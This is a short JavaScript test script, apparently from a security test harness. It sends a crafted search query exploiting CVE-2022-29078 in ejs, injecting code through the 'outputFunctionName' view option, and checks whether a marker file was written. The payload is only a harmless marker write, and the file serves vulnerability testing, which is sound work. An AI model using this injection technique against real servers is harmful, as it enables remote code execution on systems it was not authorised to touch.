'use strict';

// CVE-2022-29078: what a shopper searches for becomes data of the view, and ejs takes options out
// of that data. The name of its output function ends up in the code that it compiles.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { attack } = require('./attack');

attack(async ({ url }) => {
  const marker = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'attack-')), 'was-here');
  const code = `x;process.mainModule.require('fs').writeFileSync(${JSON.stringify(marker)},'');y`;
  const query = new URLSearchParams({ 'settings[view options][outputFunctionName]': code });
  await fetch(`${url}/search?${query}`, { headers: { accept: 'text/html' } });
  return fs.existsSync(marker);
});
